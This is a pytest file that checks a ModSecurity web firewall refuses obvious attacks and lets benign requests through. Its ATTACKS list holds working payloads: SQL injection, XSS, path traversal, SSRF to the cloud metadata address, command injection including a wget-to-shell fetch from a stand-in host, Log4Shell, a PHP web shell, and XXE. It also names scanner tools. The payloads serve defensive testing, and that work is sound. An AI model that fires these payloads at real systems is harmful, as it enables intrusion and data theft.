"""The firewall for requests: obvious attacks are refused, nobody who means well ever is."""

import json
import os
import re
from collections.abc import Iterator
from random import Random
from urllib.parse import quote

import pytest

from tests.attack.figures import record
from tests.attack.pages import PAYLOADS
from tests.attack.stack.benign import FORM, Request, request
from tests.attack.stack.client import Client, in_parallel
from tests.stack.front import Edge, prepare, running_edge
from tests.stack.stack import Stack, run

# `make attack` asks for the figure to reach: 10,000.
BENIGN = int(os.environ.get("IRONPRESS_BENIGN", "600"))
PAGES = ("This request looks like an attack", "这个请求看起来像攻击")
ATTACKS = (
    "1' OR '1'='1' --", "1 UNION ALL SELECT username, password FROM users--",
    "'; DROP TABLE posts;--",
    "1 AND SLEEP(5)", "' OR 1=1#", "1'; EXEC xp_cmdshell('dir');--", "admin'--",
    "' AND extractvalue(1,concat(0x7e,version()))--", "1;SELECT pg_sleep(10)",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "javascript:alert(document.cookie)", '"><script src=//x.example/x.js></script>',
    "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>",
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "/proc/self/environ",
    "....//....//etc/passwd", "http://169.254.169.254/latest/meta-data/",
    "; cat /etc/passwd", "| id", "`id`", "$(cat /etc/passwd)",
    "; wget http://x.example/x.sh -O- | sh",
    "&& ping -c 10 127.0.0.1", "() { :; }; /bin/bash -c 'id'", "${jndi:ldap://x.example/a}",
    "<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php",
    "O:8:\"stdClass\":0:{}", "_$$ND_FUNC$$_function(){}",
    "process.mainModule.require('child_process')",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}", "java.lang.ProcessBuilder",
    "x%0d%0aSet-Cookie:%20a=b", "%0d%0aHTTP/1.1 200 OK%0d%0a%0d%0a<html>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "*)(uid=*))(|(uid=*",
)  # fmt: skip
SCANNERS = ("sqlmap/1.9", "Nikto/2.5.0", "Nmap Scripting Engine", "masscan/1.3", "wpscan", "nuclei")
TRIED = len(ATTACKS) * 3 + len(SCANNERS) + len(PAYLOADS)
# The first level of four lets some through, so that nobody honest is refused.
LEAST_REFUSED = 0.9
HONEST = (("User-Agent", "Mozilla/5.0"), ("Accept", "*/*"))


@pytest.fixture(scope="module")
def edge(stack: Stack, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Edge]:
    """Start an edge with the firewall."""
    run("scripts/images", "edge-waf")
    folder = tmp_path_factory.mktemp("firewall")
    limits = {"REQUESTS_PER_SECOND", "API_REQUESTS_PER_SECOND", "LOGINS_PER_MINUTE", "CONNECTIONS"}
    prepare(stack, folder, **{f"EDGE_{name}": "10000" for name in limits})
    with running_edge(stack, folder, image="edge-waf") as edge:
        yield edge


def is_refused(client: Client, asked: Request) -> bool:
    answer = client.ask(asked.path, asked.headers, asked.method, asked.body)
    return answer.status == 403 and any(page in answer.body for page in PAGES)


def refused(edge: Edge, requests: list[Request]) -> list[Request]:
    """Return those of the requests that the firewall refuses."""
    found = in_parallel(edge, requests, lambda client, asked: (is_refused(client, asked), asked))
    return [asked for was_refused, asked in found if was_refused]


def test_nobody_who_means_well_is_refused(edge: Edge) -> None:
    chance = Random(11)
    requests = [request(chance) for _ in range(BENIGN)]
    assert {asked.method for asked in requests} >= {"GET", "POST", "PATCH", "PUT", "DELETE"}
    wrongly = refused(edge, requests)
    record("firewall, benign requests", tried=BENIGN, refused=len(wrongly))
    assert wrongly == []


def carrying(payload: str) -> list[Request]:
    """Return requests with a payload in an argument, a form and a program's message."""
    form, message = ("Content-Type", FORM), ("Content-Type", "application/json")
    login = json.dumps({"username": payload, "password": "x"})
    return [
        Request("GET", f"/articles?page={quote(payload)}", HONEST),
        Request("POST", "/auth/reset", (*HONEST, form), f"email={quote(payload)}".encode()),
        Request("POST", "/api/v1/auth/token", (*HONEST, message), login.encode()),
    ]


def test_obvious_attacks_are_refused(edge: Edge) -> None:
    requests = [asked for payload in ATTACKS for asked in carrying(payload)]
    requests += [
        Request("GET", "/about?x=1", (("User-Agent", name), ("Accept", "*/*"))) for name in SCANNERS
    ]
    number = len(refused(edge, requests))
    record("firewall, obvious attacks", tried=len(requests), refused=number)
    assert number / len(requests) >= LEAST_REFUSED


def test_scripts_are_refused_where_nobody_writes_any(edge: Edge) -> None:
    requests = [carrying(payload)[0] for payload in PAYLOADS]
    number = len(refused(edge, requests))
    record("firewall, scripts in an argument", tried=len(requests), refused=number)
    assert number / len(requests) >= LEAST_REFUSED


def test_what_is_refused_is_in_the_log_with_its_rule_and_never_a_password(edge: Edge) -> None:
    with Client(edge) as client:
        assert is_refused(client, carrying(ATTACKS[1])[0])
        body = b"username=x&password=%27+OR+1%3D1+--+never-to-be-seen"
        assert not is_refused(
            client, Request("POST", "/auth/login", (("Content-Type", FORM),), body)
        )
    # The log of errors is on the other stream.
    logged = run("sh", "-c", f"docker logs {edge.container} 2>&1")
    assert re.search(
        r'ModSecurity: Access denied.*\[id \\"942\d+\\"\].* found within ARGS:page', logged
    )
    assert "never-to-be-seen" not in logged
